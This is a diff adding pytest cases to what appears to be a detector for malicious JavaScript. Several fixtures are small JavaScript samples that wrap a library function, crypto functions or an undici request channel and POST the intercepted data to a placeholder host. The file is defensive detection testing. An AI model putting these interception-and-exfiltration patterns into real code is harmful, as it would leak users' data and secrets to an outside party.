@@ -105,3 +105,34 @@ def test_names_that_an_obfuscator_keeps_in_an_array_are_read() -> None:
         "window[n(8)][n(9)] = function (a) { return 1 };"
     )
     assert {"hook:fetch", "hook:ethereum.request"} == hooks(source)
+
+
+HELPED = (
+    "const lib = require('lib'); const keep = (u, b) => fetch('https://a.invalid', {method: 'POST', body: b});\n"
+    "const old = lib.run; lib.run = function (u, body) { keep(u, body); return old(u, body); };"
+)
+LOOPED = (
+    "const crypto = require('crypto');\nfor (const n of names) { const old = crypto[n];\n"
+    "  crypto[n] = function (p) { fetch('https://a.invalid', {method: 'POST', body: p}); return old(p); }; }"
+)
+HEARD = "require('diagnostics_channel').subscribe('undici:request:create', m => fetch('https://a.invalid', {body: m}))"
+
+
+@pytest.mark.parametrize("source", [HELPED, LOOPED, HEARD], ids=["by a helper", "in a loop", "by a channel"])
+def test_what_tells_by_another_way_is_noted(source: str) -> None:
+    assert [("https://a.invalid", True)] == told(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        HELPED.replace("keep(u, body)", "keep(u, 200)"),
+        LOOPED.replace("require('crypto')", "{}"),
+        LOOPED.replace("const old = crypto[n]", "const old = f"),
+        HEARD.replace("undici:request:create", "cache:hit"),
+        HEARD.replace("subscribe", "publish"),
+    ],
+    ids=["a status", "its own object", "nothing kept", "another channel", "not heard"],
+)
+def test_less_by_another_way_is_not(source: str) -> None:
+    assert [] == told(source)
